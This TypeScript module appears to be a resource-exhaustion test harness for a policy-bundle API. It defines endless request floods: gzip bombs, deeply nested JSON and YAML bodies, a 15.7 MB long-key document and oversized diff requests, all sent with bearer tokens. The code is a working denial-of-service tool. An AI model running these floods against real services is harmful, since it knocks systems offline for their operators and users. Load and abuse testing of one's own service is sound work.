/** Attacks by requests that cost more to answer than to send. Each goes on until its process is ended. */
import { Agent, request } from "node:http";
import { gzipSync } from "node:zlib";

/** Who is attacked, with tokens of its first organization. */
export interface WorkTarget {
  readonly url: string;
  readonly projectId: string;
  /** The path of an environment. */
  readonly environment: string;
  readonly adminToken: string;
  readonly runtimeToken: string;
}

interface Sent {
  readonly method: "GET" | "POST";
  readonly path: string;
  readonly token: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: Buffer;
}

/** So many connections; on each, one request after the other. */
function repeat({ url }: WorkTarget, connections: number, sent: Sent): void {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const { method, path, token, headers, body } = sent;
  const once = () => {
    const again = () => void setTimeout(once, 5);
    const asked = request(url + path, { agent, method, headers: { authorization: `Bearer ${token}`, ...headers } });
    asked.on("error", again).on("response", (answer) => answer.resume().on("close", again));
    asked.end(body);
  };
  for (let each = 0; each < connections; each += 1) once();
}

const JSON_TYPE = { "content-type": "application/json" };
const GZIPPED = { ...JSON_TYPE, "content-encoding": "gzip" };
/** A publish that is read, checked and signed, and then refused: the database stays as it is. */
const REFUSED_LATE = { "if-match": '"999999999"' };

/** 15.7 MB: one key of 5 M characters, in which 400 members differ from one value to the next. */
export function longKeyDocument(value: number): Buffer {
  const members = Array.from({ length: 400 }, (_, index) => `"m${index}":${value}`).join(",");
  return Buffer.from(`{"policies":{"${"k".repeat(5_000_000)}":{${members}},"fill":"${"x".repeat(10_700_000)}"}}`);
}

const smallItems = (bytes: number) => `[${"[],".repeat(bytes / 3)}1]`;

export const WORK_ATTACKS = {
  "diffs that would be 2 GB by a runtime token": (target: WorkTarget) =>
    repeat(target, 4, {
      ...{ method: "GET", path: `${target.environment}/bundles/1/diff/2`, token: target.runtimeToken },
    }),
  "telemetry of 3 MB in 3 KB by a runtime token": (target: WorkTarget) =>
    repeat(target, 40, {
      ...{ method: "POST", path: "/v1/telemetry/events", token: target.runtimeToken, headers: GZIPPED },
      body: gzipSync(`{"events":${smallItems(3_000_000)}}`),
    }),
  "publishes of 3 MB in 3 KB": (target: WorkTarget) =>
    repeat(target, 40, {
      ...{ method: "POST", path: `${target.environment}/bundles/publish`, token: target.adminToken },
      ...{ headers: { ...GZIPPED, ...REFUSED_LATE }, body: gzipSync(`{"policies":{"a":${smallItems(3_000_000)}}}`) },
    }),
  "YAML of 256 KiB in 400 bytes": (target: WorkTarget) => {
    const policies = "]".repeat(256 * 1024);
    const draft = { project_id: target.projectId, name: "x", media_type: "application/yaml", policies };
    repeat(target, 40, {
      ...{ method: "POST", path: "/v1/source-artifacts", token: target.adminToken },
      ...{ headers: GZIPPED, body: gzipSync(JSON.stringify(draft)) },
    });
  },
  "the largest publishes and diffs with a heap of 256 MiB": (target: WorkTarget) => {
    const publish = {
      method: "POST",
      path: `${target.environment}/bundles/publish`,
      token: target.adminToken,
    } as const;
    repeat(target, 8, { ...publish, headers: { ...JSON_TYPE, ...REFUSED_LATE }, body: longKeyDocument(3) });
    const diff = { method: "GET", path: `${target.environment}/bundles/1/diff/2`, token: target.adminToken } as const;
    repeat(target, 8, diff);
  },
} as const satisfies Readonly<Record<string, (target: WorkTarget) => void>>;

export type WorkAttackName = keyof typeof WORK_ATTACKS;
